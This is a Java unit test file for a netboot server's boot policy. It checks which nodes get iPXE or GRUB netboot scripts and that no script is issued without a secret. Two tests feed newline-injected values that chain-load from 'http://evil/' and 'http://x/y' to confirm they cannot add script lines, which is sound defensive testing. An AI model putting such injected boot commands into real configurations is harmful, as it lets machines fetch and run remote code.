package org.clonecast.server.boot;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.time.Clock;
import java.util.Optional;
import org.clonecast.protocol.wire.Ipv4;
import org.clonecast.protocol.wire.MacAddress;
import org.clonecast.server.config.BootConfig;
import org.clonecast.server.config.SecureBootNodes;
import org.clonecast.server.store.BootAction;
import org.clonecast.server.store.Database;
import org.clonecast.server.store.NodeStore;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BootPolicyTest {
  private static final MacAddress A = MacAddress.parse("52:54:00:00:00:0a");
  private static final String BASE = "http://10.77.0.1:8080";
  private static final Optional<String> SECRET = Optional.of("00112233445566778899aabbccddeeff");

  private static final BootenvStatus READY = new BootenvStatus.Ready();

  @TempDir Path dir;

  @Test
  void onlyAnEnrolledMarkedNodeNetboots() {
    try (Database db = Database.open(dir)) {
      NodeStore nodes = new NodeStore(db, Clock.systemUTC());
      BootPolicy p = new BootPolicy(nodes, "console=ttyS0");
      assertTrue(
          p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"), "unknown MAC boots local");
      nodes.recordSeen(A, Optional.empty(), Optional.empty());
      assertTrue(
          p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"), "discovered MAC boots local");
      nodes.enroll(A, "node01", Optional.empty());
      assertTrue(
          p.ipxeScript(A, BASE, READY, SECRET).contains("sanboot"),
          "enrolled, not marked, boots local");
      nodes.update(A, NodeStore.Change.action(BootAction.REIMAGE));
      String s = p.ipxeScript(A, BASE, READY, SECRET);
      assertFalse(s.contains("sanboot"), s);
      assertTrue(
          s.contains(
              "kernel "
                  + BASE
                  + "/bootenv/vmlinuz initrd=initramfs.zst clonecast.server="
                  + BASE
                  + " clonecast.mac=52:54:00:00:00:0a clonecast.secret="
                  + SECRET.get()
                  + " console=ttyS0"),
          s);
      assertTrue(s.contains("initrd --name initramfs.zst " + BASE + "/bootenv/initramfs.zst"), s);
      String wait = p.ipxeScript(A, BASE, new BootenvStatus.Building(), SECRET);
      assertFalse(
          wait.contains("sanboot") || wait.contains("exit"),
          "a marked node is never sent to its (maybe blank) disk: " + wait);
      assertEquals(
          "#!ipxe\n"
              + "echo clonecast: node01 is marked to re-image, but the server is building the netboot environment (once, a few minutes)\n"
              + "echo clonecast: waiting; asking the server again in 10 s (to stop: clonecast node set 52:54:00:00:00:0a --action local)\n"
              + "sleep 10\n"
              + ":retry\n"
              + "chain --replace --autofree "
              + BASE
              + "/boot/52:54:00:00:00:0a.ipxe || goto unanswered\n"
              + ":unanswered\n"
              + "echo clonecast: the server did not answer; asking again in 10 s\n"
              + "sleep 10\n"
              + "goto retry\n",
          wait);
      String failed =
          p.ipxeScript(
              A,
              BASE,
              new BootenvStatus.Failed(
                  "building the netboot environment failed: apt-get download"
                      + " failed\nchain http://evil/; run 'clonecast bootenv build --state-dir /var/lib/clonecast' as root on the server"),
              SECRET);
      assertTrue(
          failed.contains(
              "echo clonecast: node01 is marked to re-image, but building the netboot environment failed:"
                  + " apt-get download failed chain http://evil/; run 'clonecast bootenv build"),
          failed);
      assertFalse(
          failed.contains("\nchain http://evil"), "a reason cannot add script lines: " + failed);
      // A golden node marked for capture netboots the same environment; its agent learns the rest.
      nodes.update(A, NodeStore.Change.action(BootAction.CAPTURE));
      String none = p.ipxeScript(A, BASE, READY, Optional.empty());
      assertTrue(
          none.contains("sanboot") && !none.contains("clonecast.secret"),
          "never a netboot script without a secret: " + none);
      String c = p.ipxeScript(A, BASE, READY, SECRET);
      assertTrue(
          c.contains("to capture this node") && c.contains("clonecast.mac=52:54:00:00:00:0a"), c);
    }
  }

  @Test
  void secureBootIsTheEnrolledNodesOfTheConfiguredGroups() {
    try (Database db = Database.open(dir)) {
      NodeStore nodes = new NodeStore(db, Clock.systemUTC());
      BootPolicy p = new BootPolicy(nodes, "", false);
      assertFalse(
          selector(SecureBootNodes.parse("rack1")).secureBoot(nodes.find(A)), "unknown MAC");
      nodes.enroll(A, "node01", Optional.of("rack1"));
      assertTrue(selector(SecureBootNodes.parse("rack1")).secureBoot(nodes.find(A)));
      assertFalse(selector(SecureBootNodes.OFF).secureBoot(nodes.find(A)), "off by default");
      assertTrue(
          selector(SecureBootNodes.parse("all"))
              .secureBoot(nodes.find(MacAddress.parse("52:54:00:00:00:0b"))),
          "all: machines nobody enrolled too");
      nodes.update(A, NodeStore.Change.action(BootAction.REIMAGE));
      // The same decision as the iPXE script's, as GRUB script: a netboot with the same kernel
      // arguments.
      BootPolicy.Decision d = p.decide(A, BASE, READY, SECRET);
      assertEquals(
          new BootPolicy.Decision.Netboot(
              "clonecast.server="
                  + BASE
                  + " clonecast.mac=52:54:00:00:00:0a clonecast.secret="
                  + SECRET.get(),
              "re-image"),
          d);
      assertTrue(
          BootPolicy.grub(d, "10.77.0.1")
              .contains("linux (tftp,10.77.0.1)/clonecast/bootenv/vmlinuz"));
    }
  }

  @Test
  void storedTextCannotAddScriptLines() {
    String s = IpxeScript.bootLocal("evil\nchain http://x/y");
    assertFalse(s.contains("\nchain"), s);
  }

  private static BootFileSelector selector(SecureBootNodes secureBoot) {
    return new BootFileSelector(
        new BootConfig(
            Path.of("/usr/lib/ipxe"),
            "ipxe.efi",
            "",
            true,
            "undionly.kpxe",
            "snp-arm64.efi",
            secureBoot),
        Ipv4.parse("10.77.0.1"),
        () -> 8080);
  }
}
